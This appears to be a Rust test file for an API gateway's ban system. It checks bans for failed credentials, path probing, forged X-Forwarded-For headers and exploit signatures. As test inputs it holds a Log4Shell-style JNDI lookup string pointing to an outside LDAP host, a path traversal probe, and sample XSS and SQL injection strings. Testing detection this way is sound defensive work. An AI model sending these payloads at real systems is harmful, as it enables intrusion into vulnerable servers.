//! Bans: earned by the address that failed, told with the time that is left, and not shared by its honest neighbours.

use portcullis_testkit::upstream::Upstream;
use portcullis_testkit::wait::{self, PATIENCE};
use portcullis_testkit::wire::Answer;

use crate::harness::{AUTHENTICATED, Gateway, Site, of_kind};

const BANS: &str = r#"
[[network]]
name = "monitoring"
addresses = ["127.0.0.100"]
[ban]
never = ["monitoring"]
first = "10m"
credentials = { level = 5, half = "2m" }
"#;

struct World {
    gateway: Gateway,
    upstream: Upstream,
    key: String,
}

fn world(bans: &str, config: &str) -> World {
    let upstream = Upstream::start();
    let mut site = Site::new(&upstream.url());
    let key = site.key("alice", "user:alice", "");
    site.add(config);
    site.policy(&[AUTHENTICATED, bans].concat());
    World { gateway: site.start(), upstream, key }
}

impl World {
    fn good(&self, source: &str) -> Answer {
        self.gateway.get_from(source, "/", &[("X-Api-Key", &self.key)])
    }

    fn bad(&self, source: &str) -> Answer {
        self.gateway.get_from(source, "/", &[("X-Api-Key", "pcl_alice_guess")])
    }

    /// Fails until the address has earned its ban.
    fn fail_five_times(&self, source: &str) {
        for attempt in 1..=5 {
            self.gateway.check_refused(&format!("attempt {attempt}"), &self.bad(source), 401, "authn.invalid");
        }
    }

    fn check_banned(&self, what: &str, answer: &Answer) {
        let event = self.gateway.check_refused(what, answer, 403, "ban.active");
        let left: u64 = answer.header("retry-after").expect("a ban says how long").parse().unwrap();
        // Ten minutes, give or take a tenth: nobody can foretell the second at which a ban ends.
        assert!((539..=661).contains(&left), "{what}: {left} s");
        assert_eq!(event["remedy"]["retry_after_s"], left, "{what}");
        assert_eq!(event["ban"]["active"], true, "{what}");
        assert!(event["ban"]["until"].is_string(), "{what}");
    }
}

#[test]
fn five_bad_credentials_ban_the_address_and_no_other() {
    let world = world(BANS, "");
    world.fail_five_times("127.0.0.9");
    world.check_banned("a bad credential", &world.bad("127.0.0.9"));
    world.check_banned("no credential", &world.gateway.get_from("127.0.0.9", "/", &[]));
    // The whole address, since nobody was ever let in from there.
    world.check_banned("a good credential", &world.good("127.0.0.9"));
    assert_eq!(world.good("127.0.0.10").status(), 200, "the neighbour");
    assert_eq!(world.gateway.metric("portcullis_bans_active"), Some(1.0));
    assert_eq!(world.upstream.requests().len(), 1);
    let events = world.gateway.stop();
    let [created] = of_kind(&events, "ban.created")[..] else { panic!("{events:#?}") };
    assert_eq!((&created["client"]["ip"], &created["severity"]), (&"127.0.0.9".into(), &"high".into()));
    assert!(created["message"].as_str().unwrap().contains("credentials"), "{created:#}");
    assert_eq!(created["ban"]["active"], true);
}

#[test]
fn who_was_let_in_from_the_address_stays_in() {
    let world = world(BANS, "");
    assert_eq!(world.good("127.0.0.20").status(), 200);
    world.fail_five_times("127.0.0.20");
    world.check_banned("a bad credential", &world.bad("127.0.0.20"));
    world.check_banned("no credential", &world.gateway.get_from("127.0.0.20", "/", &[]));
    for _ in 0..3 {
        assert_eq!(world.good("127.0.0.20").status(), 200, "a verified principal shares the address, not the ban");
    }
}

#[test]
fn good_requests_and_forgetful_callers_earn_no_ban() {
    let world = world(BANS, "");
    for _ in 0..20 {
        assert_eq!(world.good("127.0.0.30").status(), 200);
        world.gateway.check_refused(
            "no credential",
            &world.gateway.get_from("127.0.0.31", "/", &[]),
            401,
            "authn.missing",
        );
    }
    assert_eq!(world.gateway.metric("portcullis_bans_active"), Some(0.0));
}

#[test]
fn some_networks_are_never_banned() {
    let world = world(BANS, "");
    for attempt in 0..12 {
        world.gateway.check_refused(&format!("attempt {attempt}"), &world.bad("127.0.0.100"), 401, "authn.invalid");
    }
    assert!(of_kind(&world.gateway.stop(), "ban.created").is_empty());
}

#[test]
fn nobody_can_aim_a_ban_at_a_third_party() {
    let world = world(BANS, "[client_address]\ntrusted_proxies = [\"127.0.0.50\"]\n");
    let victim = ("X-Forwarded-For", "198.51.100.7");
    for _ in 0..8 {
        let lie = world.gateway.get_from("127.0.0.40", "/", &[("X-Api-Key", "pcl_guess"), victim]);
        assert!(matches!(lie.status(), 401 | 403));
    }
    assert_eq!(world.gateway.get_from("127.0.0.50", "/", &[("X-Api-Key", &world.key), victim]).status(), 200);
    let liar = world.gateway.get_from("127.0.0.40", "/", &[]);
    world.check_banned("the liar", &liar);
    // Through the trusted proxy it is the named client that fails, not the proxy.
    for _ in 0..5 {
        world.gateway.get_from("127.0.0.50", "/", &[("X-Api-Key", "pcl_guess"), ("X-Forwarded-For", "198.51.100.8")]);
    }
    world.check_banned("named", &world.gateway.get_from("127.0.0.50", "/", &[("X-Forwarded-For", "198.51.100.8")]));
    assert_eq!(world.good("127.0.0.50").status(), 200);
    assert_eq!(world.gateway.get_from("127.0.0.50", "/", &[("X-Api-Key", &world.key), victim]).status(), 200);
}

#[test]
fn probing_many_paths_bans_and_a_ban_ends() {
    let world =
        world("[ban]\nfirst = \"1s\"\nlongest = \"1s\"\nprobing = { level = 4, ratio = \"25%\", half = \"5m\" }\n", "");
    let mut refused = 0;
    let banned = (0..40).any(|number| {
        // An absent route is what scanners meet; here each path is refused for its form.
        let answer = world.gateway.get_from("127.0.0.60", &format!("/{number}/..;/admin"), &[]);
        refused += 1;
        answer.status() == 400 && world.gateway.get_from("127.0.0.60", "/", &[]).status() == 403
    });
    assert!(banned, "{refused} probes earned no ban");
    assert!(refused >= 4, "{refused} probes are too few for a ban");
    let again = wait::until(PATIENCE, || (world.good("127.0.0.60").status() == 200).then_some(()));
    assert!(again.is_some(), "the ban does not end");
    assert_eq!(world.gateway.metric("portcullis_bans_active"), Some(0.0));
}

#[test]
fn a_simulated_ban_is_only_reported() {
    let world = world("[ban]\nmode = \"simulate\"\n", "");
    for _ in 0..8 {
        world.gateway.check_refused("simulated", &world.bad("127.0.0.70"), 401, "authn.invalid");
    }
    let events = world.gateway.stop();
    assert_eq!(of_kind(&events, "ban.created").len(), 1);
    assert!(of_kind(&events, "access.denied").iter().all(|event| event["ban"]["active"] == false));
}

#[test]
fn an_exploit_bans_at_once_and_a_search_about_one_does_not() {
    let world = world("", "");
    let exploit = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D";
    world.gateway.check_refused(
        "the exploit",
        &world.gateway.get_from("127.0.0.71", exploit, &[]),
        401,
        "authn.missing",
    );
    world.check_banned("what follows", &world.gateway.get_from("127.0.0.71", "/", &[]));
    // In a header, of a request that is let in.
    let agent = ("User-Agent", "${jndi:ldap://198.51.100.1/x}");
    assert_eq!(world.gateway.get_from("127.0.0.72", "/", &[("X-Api-Key", &world.key), agent]).status(), 200);
    let banned = world.gateway.get_from("127.0.0.72", "/", &[("X-Api-Key", &world.key)]);
    world.check_banned("the principal that sent it", &banned);
    let events = world.gateway.stop();
    let causes: Vec<_> = of_kind(&events, "ban.created").iter().map(|event| event["message"].to_string()).collect();
    let [of_address, of_principal] = &causes[..] else { panic!("{causes:#?}") };
    assert!(
        of_address.contains("signatures: level 3.0 of 2.5 in the last 5m, the last one: jndi lookup"),
        "{of_address}"
    );
    assert!(of_principal.starts_with("\"user:alice is banned"), "{of_principal}");
}

#[test]
fn a_verified_principal_may_look_for_what_an_attack_looks_like() {
    let world = world("", "");
    for query in ["%3Cscript%3E", "1%27+union+select+2", "%7B%7B7*7%7D%7D", "alert(1)"] {
        for _ in 0..3 {
            let target = format!("/search?q={query}");
            let answer = world.gateway.get_from("127.0.0.73", &target, &[("X-Api-Key", &world.key)]);
            assert_eq!(answer.status(), 200, "{query}");
        }
    }
    assert_eq!(world.gateway.metric("portcullis_bans_active"), Some(0.0));
}

/// A mistake in a rollout locks people out who do nothing wrong; their retries are no attack.
#[test]
fn what_our_own_change_refuses_is_held_against_nobody() {
    let office = "[[network]]\nname = \"office\"\naddresses = [\"127.0.0.80\"]\n";
    let closed = "[[resource]]\nroute = \"app\"\nnetworks = { allow = [\"office\"] }\n";
    let check = |before: &str| {
        let upstream = Upstream::start();
        let mut site = Site::new(&upstream.url());
        let key = site.key("alice", "user:alice", "");
        site.policy(before);
        let mut gateway = site.start();
        let reasons = |gateway: &Gateway, source: &str| -> Vec<String> {
            let ask = |n: u32| gateway.get_from(source, &format!("/page/{n}"), &[("X-Api-Key", &key)]);
            (0..30).map(|n| ask(n).json()["reason"].as_str().unwrap().to_owned()).collect()
        };
        gateway.site.policy(office);
        gateway.reload("ok");
        let by_grants = reasons(&gateway, "127.0.0.81");
        gateway.site.policy(&[AUTHENTICATED, office, closed].concat());
        gateway.reload("ok");
        (by_grants, reasons(&gateway, "127.0.0.82"))
    };
    let (by_grants, by_network) = check(AUTHENTICATED);
    assert_eq!(by_grants, vec!["rbac.no_matching_grant"; 30], "permitted before");
    assert_eq!(by_network, vec!["ip.not_allowed"; 30], "permitted before");
    let (by_grants, _) = check(office);
    assert!(by_grants.contains(&"ban.active".to_owned()), "refused before, too: who goes on is banned: {by_grants:?}");
}
